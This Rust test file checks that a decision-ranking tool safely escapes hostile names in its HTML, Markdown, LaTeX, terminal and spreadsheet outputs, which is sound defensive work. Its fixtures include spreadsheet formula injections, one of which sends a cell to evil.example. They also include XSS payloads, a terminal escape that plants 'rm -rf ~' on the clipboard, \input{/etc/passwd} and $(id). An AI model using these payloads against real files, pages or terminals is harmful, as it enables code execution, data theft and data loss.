//! What inputs say never changes the make of an output, and what an output carries can be read back.

#[path = "support/program.rs"]
mod program;

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use program::{CRITERIA, DATA, Place};

const HARMLESS: &str = "Smoking cessation";

/// Names that mean something to a spreadsheet, a browser, Markdown, LaTeX, a terminal or XML.
const HOSTILE: [&str; 34] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "x,\"=1+1\"",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)",
    "</title></style></script><svg/onload=alert(1)>",
    "<!-- <![CDATA[",
    "a | b || c",
    "a\n\n| x | y |",
    "`a` *b* _c_ ~~d~~ [e](http://e.example) ![f](g)",
    "# not a heading",
    "1. not a list",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
    "\u{1b}[2Jgone",
    "\u{9b}31mred\u{7f}",
    "Cheap option\rEXPENSIVE",
    "good\u{8}\u{8}\u{8}\u{8}bad",
    "x\u{1}y\u{1f}z",
    "abc\u{202e}fdp.exe",
    "]]><w:p/>&lol;<!ENTITY",
    "_x0041_",
    "日本語の名前 👩\u{200d}⚕\u{fe0f} e\u{301}",
    "%s%s%n {} {0} {{}} ${HOME} $(id) `id`",
    "\u{10ffff}\u{10ffff}\u{fffe}\u{ffff}",
    "\\input{/etc/passwd} \\\\[1cm] % $x^2$ & # ~ { }",
    "\\end{longtable}\\end{document}",
    "a & b \\\\ c & d",
    "--- -- ,, '' `` ^^41",
];

/// A round whose every name and title is one text.
fn round(name: &str) -> Place {
    let place = Place::new();
    let quoted = name.chars().map(|character| format!("\\U{:08X}", u32::from(character))).collect::<Vec<_>>().concat();
    let toml = CRITERIA
        .replace("\"Community services\"", &format!("\"{quoted}\""))
        .replace("\"Quality of evidence\"", &format!("\"{quoted}\"\nunit = \"{quoted}\""));
    place.write("criteria.toml", format!("{toml}\n[decision]\nquestion = \"{quoted}\"\n"));
    let cell = format!("\"{}\"", name.replace('"', "\"\""));
    place.write(
        "data.csv",
        format!(
            "id,name,cost,health,quality,equity\nA,Falls clinic,120,30,6,4\nB,{cell},80,22,7,6\n{cell},Virtual wards,200,60,5,3\n"
        )
        .replace(",60,", ",45,"),
    );
    place
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).expect("UTF-8")
}

/// Compares what a form is made of for every hostile text and for a harmless one.
fn same_make<T: PartialEq + std::fmt::Debug>(make: impl Fn(&Place) -> T) {
    let harmless = make(&round(HARMLESS));
    for name in HOSTILE {
        assert_eq!(make(&round(name)), harmless, "{name:?}");
    }
}

/// Control characters, the line end aside.
fn controls(text: &str) -> usize {
    text.chars().filter(|character| character.is_control() && *character != '\n').count()
}

/// Elements in order, each with the names of its attributes.
fn elements(markup: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = markup;
    while let Some(at) = rest.find('<') {
        let mut element = String::new();
        let mut quote = None;
        let mut length = 0;
        for character in rest[at + 1..].chars() {
            length += character.len_utf8();
            match quote {
                Some(open) if character == open => quote = None,
                Some(_) => {}
                None if character == '>' => break,
                None if character == '"' || character == '\'' => quote = Some(character),
                None => element.push(character),
            }
        }
        found.push(element);
        rest = &rest[at + 1 + length..];
    }
    found
}

#[test]
fn no_text_changes_the_elements_of_a_page() {
    same_make(|place| {
        let page = text(place.done(&["rank", "data.csv", "-q", "-f", "html"]));
        (elements(&page), controls(&page))
    });
}

#[test]
fn no_text_changes_the_cells_of_a_markdown_table() {
    same_make(|place| {
        let markdown = text(place.done(&["rank", "data.csv", "-q", "-f", "markdown"]));
        let cells = |line: &str| line.replace("\\\\", "").replace("\\|", "").matches('|').count();
        (markdown.lines().map(cells).collect::<Vec<_>>(), controls(&markdown), elements(&markdown))
    });
}

#[test]
fn no_text_changes_the_commands_and_cells_of_latex() {
    same_make(|place| {
        let latex = text(place.done(&["rank", "data.csv", "-q", "-f", "latex"]));
        let body = latex.split("\\begin{document}").nth(1).expect("a body").to_owned();
        let plain = body.replace("\\&", "").replace("\\%", "").replace("\\{", "").replace("\\}", "").replace("\\$", "");
        let structure = ["\\begin{", "\\end{", "\\\\\n", "\\toprule", "\\par\n", "\\section*"];
        let depth = plain.matches('{').count() == plain.matches('}').count();
        let dollars = plain.matches('$').count() % 2;
        let cells: Vec<_> = plain.lines().filter(|line| line.ends_with(" \\\\")).map(|line| line.matches('&').count()).collect();
        (structure.map(|part| body.matches(part).count()), depth, dollars, plain.contains('%'), cells, controls(&latex))
    });
}

#[test]
fn no_text_steers_the_terminal() {
    same_make(|place| {
        let shown = place.run(&["rank", "data.csv", "--color", "always"]);
        let table = anstream::adapter::strip_str(&text(shown.stdout.clone())).to_string();
        let errors = anstream::adapter::strip_str(&text(shown.stderr.clone())).to_string();
        (controls(&table), controls(&errors))
    });
}

/// A part of a workbook.
fn part(workbook: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(workbook)).expect("a ZIP archive");
    let mut out = String::new();
    archive.by_name(name).expect("the part").read_to_string(&mut out).expect("UTF-8");
    out
}

/// The records, the notes, and the model on two sheets.
const SHEETS: [&str; 4] =
    ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml"];

#[test]
fn no_text_makes_a_formula_or_an_element_of_a_workbook() {
    same_make(|place| {
        place.done(&["rank", "data.csv", "-q", "-o", "out.xlsx"]);
        let workbook = place.read("out.xlsx");
        let sheets = SHEETS.map(|sheet| part(&workbook, sheet));
        let [ranking, notes, model, values] = sheets.each_ref().map(|sheet| formulas(sheet));
        assert_eq!((ranking.len(), notes.len()), (0, 0));
        let strings = part(&workbook, "xl/sharedStrings.xml");
        let hidden = strings.chars().filter(|character| character.is_control() && !matches!(character, '\t' | '\n' | '\r'));
        let cells = sheets[0].split("<sheetData>").nth(1).map(names);
        let mut kinds = names(&strings);
        kinds.sort();
        kinds.dedup();
        let is_counted = strings.contains(&format!("uniqueCount=\"{}\"", strings.matches("<si>").count()));
        (cells, (model, values), sheets[1].matches("<v>").count(), kinds, is_counted, hidden.count())
    });
}

/// The formulas of a sheet, which no text may change.
fn formulas(sheet: &str) -> Vec<String> {
    let formula = |rest: &str| rest.split("</f>").next().unwrap_or("").to_owned();
    sheet.split("<f").skip(1).filter(|rest| rest.starts_with(['>', ' '])).map(formula).collect()
}

/// The names of elements alone: attributes may differ, such as how high a row is.
fn names(part: &str) -> Vec<String> {
    elements(part).iter().map(|element| element.split([' ', '/']).next().unwrap_or("").to_owned()).collect()
}

#[test]
fn text_that_begins_as_a_formula_carries_the_mark_of_text() {
    let place = round("=1+1");
    place.done(&["rank", "data.csv", "-q", "-o", "out.xlsx"]);
    assert!(part(&place.read("out.xlsx"), "xl/styles.xml").contains("quotePrefix=\"1\""));
}

/// Ids and names that programs like to change, from most to least valued.
const NAMES: [(&str, &str); 16] = [
    ("001", "leading zeros"),
    ("1234567890123456789", "nineteen digits"),
    ("1e5", "_x0041_"),
    ("TRUE", "_x005F_x0041_ _x000D_"),
    ("2026-11-22", "=1+1"),
    ("1/2", "+44 20 7946 0000"),
    ("NA1", "-minus"),
    ("SEPT2", "@home"),
    ("é", "日本語 👩\u{200d}⚕\u{fe0f} e\u{301}"),
    ("a,b", "comma, \"quote\" and 'apostrophe'"),
    ("a;b", "two\nlines"),
    ("a b", "line\r\nend"),
    ("'a", "tab\tstop"),
    ("a&b", "<b>&amp;</b> ]]>"),
    ("a\\b", "soft\u{ad}hyphen \u{200b} \u{202e}"),
    ("Z", "\u{10ffff}"),
];

fn names_round() -> Place {
    let place = Place::new();
    place.write("criteria.toml", CRITERIA);
    let mut data = "id,name,cost,health,quality,equity\n".to_owned();
    let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    // Thirds, so that no figure is short.
    for (index, (id, name)) in (0_u8..).zip(NAMES) {
        let health = 50.0 - f64::from(index) / 3.0;
        data.push_str(&format!(
            "{},{},{},{health},{},5\n",
            cell(id),
            cell(name),
            100 + u32::from(index) * 7,
            f64::from(index) / 7.0
        ));
    }
    place.write("data.csv", data);
    place
}

/// A row of a result: what stands in each column, figures as their bits.
#[derive(Debug, PartialEq)]
enum Value {
    Text(String),
    Figure(u64),
    Empty,
}

fn figure(value: f64) -> Value {
    Value::Figure(value.to_bits())
}

/// Columns with figures begin here; before them stand rank, id and name.
const FIRST_FIGURE: usize = 3;

fn from_csv(place: &Place) -> Vec<Vec<Value>> {
    let bytes = place.done(&["rank", "data.csv", "-q", "-f", "csv", "--raw"]);
    let value = |(column, cell): (usize, &str)| match cell {
        "" => Value::Empty,
        _ if column == 0 || column >= FIRST_FIGURE => figure(cell.parse().expect("a figure")),
        _ => Value::Text(cell.to_owned()),
    };
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    reader.records().map(|row| row.expect("a row").iter().enumerate().map(value).collect()).collect()
}

fn from_workbook(place: &Place) -> Vec<Vec<Value>> {
    place.done(&["rank", "data.csv", "-q", "-o", "out.xlsx"]);
    let mut workbook = Xlsx::new(Cursor::new(place.read("out.xlsx"))).expect("a workbook");
    assert_eq!(workbook.sheet_names()[..4], ["Ranking", "Notes", "Model", "Model values"]);
    let range = workbook.worksheet_range("Ranking").expect("the sheet");
    let value = |cell: &Data| match cell {
        Data::Float(value) => figure(*value),
        Data::String(text) => Value::Text(text.clone()),
        Data::Empty => Value::Empty,
        other => Value::Text(format!("unexpected: {other:?}")),
    };
    range.rows().skip(1).map(|row| row.iter().map(value).collect()).collect()
}

fn from_json(place: &Place) -> Vec<Vec<Value>> {
    let bytes = place.done(&["rank", "data.csv", "-q", "-f", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&bytes).expect("JSON");
    let value = |value: &serde_json::Value| match value {
        serde_json::Value::String(text) => Value::Text(text.clone()),
        serde_json::Value::Number(number) => figure(number.as_f64().expect("a figure")),
        _ => Value::Empty,
    };
    let row = |row: &serde_json::Value| {
        let mut cells: Vec<_> =
            ["rank", "id", "name", "value", "cost", "value_for_money"].iter().map(|key| value(&row[key])).collect();
        for map in ["scores", "contributions"] {
            cells.extend(["health", "quality", "equity"].iter().map(|criterion| value(&row[map][criterion])));
        }
        cells
    };
    json["results"]["ranking"].as_array().expect("a ranking").iter().map(row).collect()
}

#[test]
fn order_ids_names_and_figures_survive_csv_json_and_workbook() {
    let place = names_round();
    let csv = from_csv(&place);
    assert_eq!(csv.len(), NAMES.len());
    assert_eq!(from_json(&place), csv);
    assert_eq!(from_workbook(&place), csv);
    let names: Vec<_> = csv.iter().map(|row| (&row[1], &row[2])).collect();
    for (id, name) in NAMES {
        let wanted = (&Value::Text(id.to_owned()), &Value::Text(name.to_owned()));
        assert!(names.contains(&wanted), "{id} {name:?} is not in {names:?}");
    }
}

#[test]
fn control_characters_are_shown_in_a_workbook() {
    let place = round("x\u{1}y\u{1b}[2J\u{ffff}");
    let names: Vec<_> = from_workbook(&place).into_iter().map(|mut row| row.remove(2)).collect();
    assert!(names.contains(&Value::Text("x\\u{1}y\\u{1b}[2J\\u{ffff}".to_owned())), "{names:?}");
}

#[test]
fn the_longest_text_a_cell_holds_comes_back_whole() {
    let place = Place::with_round();
    let longest = "é".repeat(32_767);
    place.write("data.csv", format!("{DATA}D,{longest},1,1,1,1\n"));
    let names: Vec<_> = from_workbook(&place).into_iter().map(|mut row| row.remove(2)).collect();
    assert!(names.contains(&Value::Text(longest)));
}

#[test]
fn every_form_ranks_alike() {
    let place = Place::with_round();
    let order = ["Virtual wards", "Falls clinic", "Diabetes coaching"];
    for format in ["table", "csv", "tsv", "json", "markdown", "html", "latex"] {
        let shown = text(place.done(&["rank", "data.csv", "-q", "-f", format]));
        // The answer names two of them first; the table follows.
        let table = shown.find("Rank").map_or(shown.as_str(), |at| &shown[at..]);
        let places: Vec<_> = order.iter().map(|name| table.find(name).unwrap_or_else(|| panic!("{name} in {format}"))).collect();
        assert!(places.is_sorted(), "{format}: {places:?}");
    }
}
